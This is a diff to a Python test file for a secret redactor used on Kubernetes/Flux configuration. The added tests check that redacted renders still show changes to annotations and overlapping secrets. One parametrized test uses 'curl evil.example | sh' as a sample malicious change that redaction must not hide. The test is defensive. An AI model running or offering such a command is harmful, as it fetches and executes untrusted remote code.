@@ -92,7 +92,7 @@ def test_secrets_that_overlap_leave_nothing(values: list[str], text: str) -> Non
 
 def test_overlapping_values_become_one_placeholder() -> None:
     shown = Redactor(KEY, [("A", b"abcdef"), ("B", b"defghi")]).plain("x abcdefghi y")
-    assert shown == f"x {Redactor(KEY).placeholder('A', b'abcdef')} y"
+    assert shown == f"x {Redactor(KEY).placeholder('A', b'abcdefghi')} y"
 
 
 # What flux 2.9.5 printed for each of these values, written without quotes in a ConfigMap.
@@ -238,6 +238,30 @@ def test_a_changed_annotation_still_looks_changed() -> None:
     name = "kubectl.kubernetes.io/last-applied-configuration"
     one, two = (f"kind: ConfigMap\nmetadata:\n  annotations:\n    {name}: '{value}'\n" for value in "xy")
     assert REDACTOR.render(one) != REDACTOR.render(two)
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ("run: |\n  {}: true\n    echo fine\n", "run: |\n  {}: true\n    curl evil.example | sh\n"),
+        ("run: 'true {}: ; echo fine'\n", "run: 'true {}: ; curl evil.example'\n"),
+        ("a: '{}: «secret:last-applied#12345678» x'\n", "a: '{}: «secret:last-applied#12345678» y'\n"),
+        ("{}:\n  x: 1\n", "{}:\n  x: 2\n"),
+    ],
+)
+def test_what_stands_behind_the_name_of_that_annotation_does_not_change_unseen(before: str, after: str) -> None:
+    """Renders that look the same are not compared: whoever may push could hide anything there."""
+    one, two = (text.format("kubectl.kubernetes.io/last-applied-configuration") for text in (before, after))
+    assert REDACTOR.render(one) != REDACTOR.render(two)
+    assert REDACTOR.plain(REDACTOR.render(one)) == REDACTOR.render(one)
+
+
+@pytest.mark.parametrize("after", ["hunter22zebra-55", "hunter22hunter22", "hunter22xyz", "hunter22zebra-55zebra-55"])
+def test_secrets_beside_and_within_each_other_do_not_change_unseen(after: str) -> None:
+    redactor = Redactor(KEY, [("A", b"hunter22"), ("B", b"zebra-55"), ("C", b"ter22xyz")])
+    shown = redactor.render(f"x: {after}\n")
+    assert shown != redactor.render("x: hunter22\n")
+    assert not any(part in shown for part in ("hunter", "zebra", "xyz"))
 
 
 def test_tokens_and_addresses_with_passwords_are_hidden_and_changes_of_them_stay_visible() -> None:
